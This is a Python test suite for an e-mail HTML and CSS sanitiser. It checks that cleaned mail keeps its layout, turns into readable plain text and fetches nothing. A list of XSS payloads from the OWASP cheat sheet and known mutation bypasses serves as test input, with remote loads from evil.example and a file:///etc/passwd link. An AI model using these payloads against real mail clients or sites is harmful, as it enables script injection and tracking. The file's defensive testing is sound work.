"""HTML of e-mails: nothing in it runs or fetches, what readers see stays, and its plain text reads well."""

import html as pages
import re
import threading
from collections.abc import Iterator
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, HTTPServer

import pytest
from hypothesis import given
from hypothesis import strategies as st

from models.fields.context import Context
from models.fields.errors import FieldError
from models.fields.field import Field
from models.fields.kinds import KINDS
from models.mail_css import clean_declarations, clean_style_sheet
from models.mail_html import DEEPEST, TooComplex, clean_mail, mail_text

#: Known vectors (OWASP's cheat sheet and what cleaners were fooled by), each of which tries to run `alert`.
VECTORS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
    "<img src=javascript:alert(1)>", "<img src=`javascript:alert(1)`>", "<IMG SRC=&#106;avascript:alert(1)>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>', '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a href="vbscript:alert(1)">x</a>',
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<math><mi xlink:href=javascript:alert(1)>x</mi>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>", "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>", "<form action=javascript:alert(1)><input type=submit></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>", "<body onload=alert(1)>x</body>",
    "<div style=background:url(javascript:alert(1))>x</div>", "<div style='width:expression(alert(1))'>x</div>",
    "<div style='behavior:url(evil.htc)'>x</div>", "<div style='-moz-binding:url(http://evil.example/x)'>x</div>",
    "<style>@import 'http://evil.example/x.css';</style>x", "<style>p{background:url(http://evil.example/x)}</style>x",
    "<style>p{color:expression(alert(1))}</style>x", "<style></style><script>alert(1)</script></style>x",
    "<style><!--</style><script>alert(1)//--></script>x", "<style>p{content:'</style><script>alert(1)</script>'}x",
    "<link rel=stylesheet href=http://evil.example/x.css>x", "<base href=javascript:alert(1)//>x",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>x", "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><script>alert(1)</script></textarea>", "<title><script>alert(1)</script></title>x",
    "<xmp><script>alert(1)</script></xmp>", "<!--><script>alert(1)</script>-->", "<details open ontoggle=alert(1)>x",
    "<video><source onerror=alert(1)></video>", "<marquee onstart=alert(1)>x</marquee>",
    "<table background=javascript:alert(1)><tr><td>x</table>", "<img src=https://evil.example/{{email}}>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<plaintext><img onerror=alert(1)>", "<input autofocus onfocus=alert(1)>x",
    "<a href='//evil.example'>x</a>", "<a href='/settings/'>x</a>", "<p title='{{x}}'>x</p>",
)  # fmt: skip


class Looker(HTMLParser):
    """Notes what in HTML could run or fetch."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {"script", "iframe", "object", "embed", "form", "svg", "math", "link", "meta", "base", "input"}:
            self.bad.append(tag)
        for name, value in attrs:
            text = re.sub(r"[\s\x00-\x1f]", "", value or "").lower()
            if name.startswith("on") or "script:" in text or "data:" in text or "expression" in text:
                self.bad.append(f"{tag} {name}={value}")
            if name in ("src", "background", "action", "formaction", "srcdoc") and not text.startswith(
                    ("cid:", "https:")):  # fmt: skip
                self.bad.append(f"{tag} {name}={value}")
            if name == "href" and not text.startswith(("https:", "http:", "mailto:", "tel:", "{{")):
                self.bad.append(f"{tag} {name}={value}")


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_that_runs_or_fetches_stays(vector: str) -> None:
    for given_html in (vector, f"<table><tr><td>{vector}", f"<p>before</p>{vector}<p>after</p>"):
        found = clean_mail(given_html)
        looker = Looker()
        looker.feed(found)
        assert not looker.bad
        styles = "".join(re.findall(r"<style>(.*?)</style>", found, re.DOTALL))
        assert not re.search(r"@import|expression|behavior|binding|javascript|evil", styles)
        assert clean_mail(found) == found


#: What kinds of text let through.
TEXTS = st.text(st.characters(exclude_characters="\x00", exclude_categories=["Cs"]))


@given(st.text(alphabet=st.sampled_from("<>/\"'= {}()@:;!-&#abcimgpstyleurl\n"), max_size=200) | TEXTS)
def test_cleaning_what_is_clean_changes_nothing(text: str) -> None:
    once = clean_mail(text)
    assert clean_mail(once) == once
    looker = Looker()
    looker.feed(once)
    assert not looker.bad


def test_layout_of_an_e_mail_stays() -> None:
    given_html = (
        '<!doctype html><html><head><title>News</title><style type="text/css">.card td { padding: 4px; color: #123 } '
        "@media only screen and (max-width: 600px) { .card { width: 100% !important } }</style></head>"
        '<body style="margin:0;background-color:#eee"><table class="card" width="600" bgcolor="#ffffff" cellpadding="0"'
        ' align="center"><tr><td valign="top" colspan="2" style="font-family:Arial, sans-serif;padding:8px">'
        '<img src="cid:0123456789abcdef01234567" alt="Logo" width="120">'
        '<a href="https://example.fi/?a=1&amp;b=2">Read</a>'
        "</td></tr></table></body></html>"
    )
    found = clean_mail(given_html)
    for part in (".card td{padding:4px;color:#123}", ".card{width:100%!important}", "@media only screen",
                 '<table class="card" width="600" bgcolor="#ffffff" cellpadding="0" align="center">', 'valign="top"',
                 "font-family:Arial, sans-serif;padding:8px", 'src="cid:0123456789abcdef01234567"',
                 'href="https://example.fi/?a=1&amp;b=2"', "background-color:#eee"):  # fmt: skip
        assert part in found
    assert "News" not in found


@pytest.mark.parametrize(("style", "kept"), [
    ("color:red;position:fixed", "color:red"),
    ("background:url(https://a.fi/x.png)", "background:url(https://a.fi/x.png)"),
    ("background:url('cid:abc')", 'background:url("cid:abc")'), ("background:url(http://a.fi/x.png)", ""),
    ("background:url(//a.fi/x.png)", ""), ("background:URL(javascript:x)", ""), ("background:image-set('x' 1x)", ""),
    ("color:re\\64", "color:red"), ("width:calc(100% - 2px)", "width:calc(100% - 2px)"), ("color:{{x}}", ""),
    ("font-family:'</style>'", ""), ("width:" + "calc(" * 5000 + "1" + ")" * 5000, ""), ("--x:url(http://a)", ""),
    ("color:red!important", "color:red!important"), ("content:'x'", ""), ("background:u\\rl(http://a.fi)", ""),
])  # fmt: skip
def test_styles_keep_looks_and_pictures_alone(style: str, kept: str) -> None:
    assert clean_declarations(style) == kept


def test_style_sheets_lose_what_fetches_and_what_is_too_deep() -> None:
    assert clean_style_sheet("@import 'x'; @font-face{src:url(https://a.fi/f)} @charset 'x'; a:hover{color:red}"
                             "@supports (x){a{color:red}} p{}") == "a:hover{color:red}"  # fmt: skip
    assert clean_style_sheet("@media a{" * 500) == ""
    assert clean_style_sheet("p{color:red}" * 100_000) == ""


def test_too_many_elements_and_too_deep_ones_are_refused_with_a_message() -> None:
    field = Field("f", KINDS["mail_html"], "", max_length=500_000)
    for text in ("<div>" * (DEEPEST + 1) + "x", "<b>" * 90_000, "<p>x</p>" * 15_001):
        with pytest.raises(TooComplex):
            clean_mail(text)
        with pytest.raises(FieldError, match="too many"):
            field.kind.parse(text, field, Context())
    assert clean_mail("<div>" * (DEEPEST - 1) + "x")


@pytest.mark.parametrize("text", ["<style>" * 60_000, "<style" * 60_000, '<p title="' * 9_000, " href=\"{{" * 9_000])
def test_hostile_repetition_is_cleaned(text: str) -> None:
    assert clean_mail(clean_mail(text)) == clean_mail(text)


@pytest.mark.parametrize("text", ["", " ", "<p></p>", "<div> <br></div>", "<style>p{color:red}</style>", "<!-- x -->"])
def test_nothing_to_see_is_nothing(text: str) -> None:
    assert clean_mail(text) == ""


def test_typed_text_becomes_paragraphs() -> None:
    assert clean_mail("Hei & moi\n\nToinen") == "<p>Hei &amp; moi</p><p>Toinen</p>"


def test_text_has_headings_lists_links_and_the_words_of_pictures() -> None:
    html = clean_mail(
        "<style>p{color:red}</style><h1>Uutiset</h1><p>Ensimmäinen\n kappale, <a href='https://a.fi/b?c=1&amp;d=2'>lue "
        "lisää</a>.</p><ul><li>yksi</li><li>kaksi</li></ul><ol><li>a</li><li>b</li></ol>"
        "<table><tr><td>Vasen</td><td>Oikea</td></tr><tr><td>Alla</td></tr></table>"
        "<p><a href='https://a.fi'>https://a.fi</a> <a href='mailto:a@b.fi'>a@b.fi</a> <img src='cid:x' alt='Logo'></p>"
    )
    assert mail_text(html) == (
        "Uutiset\n\nEnsimmäinen kappale, lue lisää (https://a.fi/b?c=1&d=2).\n\n• yksi\n• kaksi\n\n1. a\n2. b\n\n"
        "Vasen Oikea\nAlla\n\nhttps://a.fi a@b.fi Logo"
    )


@given(TEXTS)
def test_text_of_escaped_words_is_those_words(text: str) -> None:
    words = "".join(sign if sign.isprintable() else " " for sign in text)
    assert mail_text(clean_mail(f"<p>{pages.escape(words)}</p>")).split() == words.split()


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """The address of an HTTP server on this machine, and what it was asked for."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"p{color:red}")

        def log_message(self, format: str, *args: object) -> None:
            """Quiet."""

    server = HTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()
    thread.join()


def test_nothing_is_fetched_by_cleaning_or_by_putting_styles_on_elements(listener: tuple[str, list[str]]) -> None:
    from services.mailings.content import Written, compose, inlined

    address, asked = listener
    page = (f"<html><head><link rel=stylesheet href='{address}/a.css'><style>@import '{address}/b.css'; "
            f"p{{background:url({address}/c.png);color:blue}}</style></head><body><p>x<img src='{address}/d.png'>"
            f"<link rel=stylesheet href='file:///etc/passwd'></p></body></html>")  # fmt: skip
    assert "color: blue" in inlined(page)
    compose.cache_clear()
    compose(Written(mail=True, marketing=True, language="fi", subject="x", html=clean_mail(page))).render({})
    assert asked == []
